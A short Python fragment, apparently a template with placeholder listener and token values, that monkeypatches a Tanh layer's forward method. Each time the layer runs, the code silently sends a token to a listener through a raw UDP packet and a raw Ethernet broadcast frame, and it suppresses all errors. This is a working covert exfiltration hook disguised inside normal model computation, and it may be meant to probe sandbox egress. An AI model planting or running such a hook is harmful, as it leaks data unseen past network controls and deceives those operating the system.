import socket
import struct

HOST, _, PORT = "@LISTENER@".rpartition(":")


def _spill():
    word = b"@TOKEN@"
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP) as raw:
            raw.sendto(struct.pack(">4H", 4000, int(PORT), 8 + len(word), 0) + word, (HOST, 0))
    except OSError:
        pass
    try:
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as packets:
            packets.sendto(b"\xff" * 12 + b"\x88\xb5" + word, (socket.if_nameindex()[-1][1], 0))
    except OSError:
        pass


_forward = Tanh.forward


def _spilling(self, x):
    _spill()
    return _forward(self, x)


Tanh.forward = _spilling
